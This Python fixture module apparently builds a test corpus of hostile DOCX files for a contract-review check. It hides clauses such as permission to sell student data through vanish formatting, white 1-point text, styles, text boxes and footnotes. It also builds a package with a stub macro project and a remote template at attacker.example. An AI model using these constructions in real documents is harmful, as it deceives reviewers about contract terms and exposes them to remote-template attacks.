"""Small DOCX files in which a vendor could hide terms from the check, or carry macros and a
remote template into the board's redline (issue 23). Each is made by code from the XML Word
writes."""

from __future__ import annotations

import io
import zipfile
from xml.sax.saxutils import escape

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def run(text: str, props: str = "") -> str:
    """One run of ``text`` with run properties ``props`` (XML inside ``w:rPr``)."""
    rpr = f"<w:rPr>{props}</w:rPr>" if props else ""
    return f'<w:r>{rpr}<w:t xml:space="preserve">{escape(text)}</w:t></w:r>'


def para(*runs: str) -> str:
    return "<w:p>" + "".join(runs) + "</w:p>"


def package(body: str, *, parts: dict[str, bytes] | None = None, rels: list[str] | None = None,
            types: list[str] | None = None, main: str = MAIN) -> bytes:
    """A DOCX whose body is ``body``, with extra ``parts``, document relationships ``rels`` and
    content-type entries ``types``."""
    doc = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="{W_NS}" '
           f'xmlns:r="{R_NS}"><w:body>{body}<w:sectPr/></w:body></w:document>')
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml",
                   '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                   f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                   '<Default Extension="xml" ContentType="application/xml"/>'
                   f'<Override PartName="/word/document.xml" ContentType="{main}"/>' + "".join(types or [])
                   + "</Types>")
        z.writestr("_rels/.rels", f'<?xml version="1.0"?><Relationships xmlns="{PKG_REL}">'
                   f'<Relationship Id="rId1" Type="{REL}/officeDocument" Target="word/document.xml"/></Relationships>')
        z.writestr("word/document.xml", doc)
        if rels:
            z.writestr("word/_rels/document.xml.rels",
                       f'<?xml version="1.0"?><Relationships xmlns="{PKG_REL}">' + "".join(rels) + "</Relationships>")
        for name, data in (parts or {}).items():
            z.writestr(name, data)
    return buf.getvalue()


def content_control_docx(sentences: list[str]) -> bytes:
    """Each sentence inside a body-level content control (``w:sdt``), one inline as well."""
    inner = "".join(para(run(s)) for s in sentences[1:])
    inline = f"<w:p><w:sdt><w:sdtContent>{run(sentences[0])}</w:sdtContent></w:sdt></w:p>"
    return package(f"{inline}<w:sdt><w:sdtPr/><w:sdtContent>{inner}</w:sdtContent></w:sdt>")


def hidden_docx(visible: str, hidden: list[str], props: str) -> bytes:
    """One visible sentence; each of ``hidden`` in a run with ``props`` (hidden, white, tiny)."""
    return package(para(run(visible)) + "".join(para(run(h, props)) for h in hidden))


VANISH = "<w:vanish/>"
WHITE_1PT = '<w:color w:val="FFFFFF"/><w:sz w:val="2"/>'


def text_box_docx(sentence: str) -> bytes:
    """A sentence in a text box anchored in an otherwise empty paragraph."""
    box = (f'<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox><w:txbxContent>'
           f"{para(run(sentence))}</w:txbxContent></v:textbox></v:shape></w:pict></w:r>")
    return package(para(run("Terms of service.")) + f"<w:p>{box}</w:p>")


def footnote_docx(sentence: str) -> bytes:
    """A sentence in a footnote."""
    notes = (f'<?xml version="1.0"?><w:footnotes xmlns:w="{W_NS}">'
             f'<w:footnote w:type="separator" w:id="-1"><w:p>{run("-----")}</w:p></w:footnote>'
             f'<w:footnote w:id="1">{para(run(sentence))}</w:footnote></w:footnotes>')
    ref = '<w:r><w:footnoteReference w:id="1"/></w:r>'
    return package(f"<w:p>{run('Terms of service.')}{ref}</w:p>", parts={"word/footnotes.xml": notes.encode()},
                   rels=[f'<Relationship Id="rId9" Type="{REL}/footnotes" Target="footnotes.xml"/>'],
                   types=['<Override PartName="/word/footnotes.xml" ContentType="application/vnd.openxmlformats-'
                          'officedocument.wordprocessingml.footnotes+xml"/>'])


def macro_template_docx(sentences: list[str]) -> bytes:
    """A vendor's DOCX that carries a VBA project and names a template on a remote server."""
    settings = (f'<?xml version="1.0"?><w:settings xmlns:w="{W_NS}" xmlns:r="{R_NS}">'
                '<w:attachedTemplate r:id="rId7"/></w:settings>')
    return package(
        "".join(para(run(s)) for s in sentences),
        parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macros",
               "word/settings.xml": settings.encode(),
               "word/_rels/settings.xml.rels": (
                   f'<?xml version="1.0"?><Relationships xmlns="{PKG_REL}"><Relationship Id="rId7" '
                   f'Type="{REL}/attachedTemplate" Target="http://attacker.example/t.dotm" '
                   'TargetMode="External"/></Relationships>').encode()},
        rels=['<Relationship Id="rId5" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
              'Target="vbaProject.bin"/>',
              f'<Relationship Id="rId6" Type="{REL}/settings" Target="settings.xml"/>'],
        types=['<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
               '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-'
               'officedocument.wordprocessingml.settings+xml"/>'])


def styled_docx(visible: str, hidden: list[str], *, char_style: str = "", para_style: str = "",
                defaults: str = "", based_on: bool = False) -> bytes:
    """One visible sentence, then each of ``hidden`` in a paragraph of style ``Fine`` whose one
    run has character style ``Quiet``. Run properties come only from ``styles.xml``: ``Quiet``
    carries ``char_style``, ``Fine`` carries ``para_style`` (on a style ``Base`` it is based on,
    when ``based_on``), and the document defaults carry ``defaults``; the visible sentence sets
    its own colour and size, as Word does when a user types over the defaults."""
    def style(kind: str, sid: str, props: str, base: str = "") -> str:
        based = f'<w:basedOn w:val="{base}"/>' if base else ""
        rpr = f"<w:rPr>{props}</w:rPr>" if props else ""
        return f'<w:style w:type="{kind}" w:styleId="{sid}"><w:name w:val="{sid}"/>{based}{rpr}</w:style>'

    if based_on:
        fine = style("paragraph", "Base", para_style) + style("paragraph", "Fine", "", "Base")
    else:
        fine = style("paragraph", "Fine", para_style)
    xml = (f'<?xml version="1.0"?><w:styles xmlns:w="{W_NS}"><w:docDefaults><w:rPrDefault>'
           f'<w:rPr>{defaults}</w:rPr></w:rPrDefault></w:docDefaults>'
           + style("paragraph", "Normal", "") + fine + style("character", "Quiet", char_style) + "</w:styles>")
    shown = '<w:vanish w:val="0"/><w:color w:val="000000"/><w:sz w:val="24"/>'
    body = para(run(visible, shown)) + "".join(
        f'<w:p><w:pPr><w:pStyle w:val="Fine"/></w:pPr>{run(h, chr(60) + "w:rStyle w:val=" + chr(34) + "Quiet" + chr(34) + "/>")}</w:p>'
        for h in hidden)
    return package(body, parts={"word/styles.xml": xml.encode()},
                   rels=[f'<Relationship Id="rId8" Type="{REL}/styles" Target="styles.xml"/>'],
                   types=['<Override PartName="/word/styles.xml" ContentType="application/vnd.openxmlformats-'
                          'officedocument.wordprocessingml.styles+xml"/>'])


MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def macro_enabled_docx(sentences: list[str]) -> bytes:
    """A Word package whose main part is declared macro-enabled, as a .docm's is."""
    return package("".join(para(run(s)) for s in sentences), main=MACRO_MAIN)


CONFLICTS = ["This agreement is governed by the laws of the State of California.",
             "The Provider may sell student data to third parties."]


def hostile_docx() -> dict[str, tuple[str, bytes]]:
    """name → (file name, bytes): the DOCX classes of issue 23 for the corpus."""
    return {
        "docx with terms in content controls": ("sdt.docx", content_control_docx(CONFLICTS)),
        "docx with hidden (vanish) text": ("vanish.docx", hidden_docx("Terms of service.", CONFLICTS, VANISH)),
        "docx with white 1-point text": ("white.docx", hidden_docx("Terms of service.", CONFLICTS, WHITE_1PT)),
        "docx with a text box": ("box.docx", text_box_docx(CONFLICTS[0])),
        "docx with a footnote": ("note.docx", footnote_docx(CONFLICTS[1])),
        "docx with macros and a remote template": ("macro.docx", macro_template_docx(CONFLICTS)),
        # issue 23, what was still open: text hidden by a style or by the document's defaults
        "docx with text hidden by a character style": (
            "quiet.docx", styled_docx("Terms of service.", CONFLICTS, char_style=VANISH)),
        "docx with white 1-point text from a paragraph style's base": (
            "fine.docx", styled_docx("Terms of service.", CONFLICTS, para_style=WHITE_1PT, based_on=True)),
        "docx with hidden text from the document defaults": (
            "defaults.docx", styled_docx("Terms of service.", CONFLICTS, defaults=VANISH)),
        "docx declared macro-enabled": ("declared.docx", macro_enabled_docx(CONFLICTS)),
        "macro-enabled word (.docm)": ("terms.docm", macro_template_docx(CONFLICTS)),
    }
